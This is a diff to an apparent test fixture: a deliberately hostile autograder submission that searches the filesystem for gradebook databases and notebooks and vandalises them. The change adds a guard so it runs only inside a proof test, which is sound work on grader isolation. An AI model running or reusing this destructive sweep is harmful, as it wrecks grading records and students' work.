@@ -59,6 +59,9 @@ def _vandalise(path):
             pass
 
 
+# Armed only where the proof test filled in the placeholders: exec'd as it stands (a script that
+# loops over tests/submissions/*), it would wreck the checkout it runs in.
+_ARMED = not "@@COURSE@@".startswith("@@")
 _targets = set(glob.glob("@@COURSE@@/gradebook.db") + glob.glob("@@COURSE@@/source/*/*.ipynb")
                + glob.glob("@@COURSE@@/submitted/*/*/*.ipynb") + glob.glob("@@COURSE@@/autograded/*/*/*.ipynb"))
 _here = os.getcwd()
@@ -69,7 +72,7 @@ for _root in ("/work", "/root", "/home", "/tmp", "/srv", "/opt"):
     for _dir, _subdirs, _files in os.walk(_root):
         _subdirs[:] = [d for d in _subdirs if d not in (".venv", "site-packages", "node_modules", ".git")]
         _targets.update(os.path.join(_dir, f) for f in _files if f == "gradebook.db")
-for _path in sorted(_targets):
+for _path in sorted(_targets) if _ARMED else ():
     _vandalise(_path)
 
 
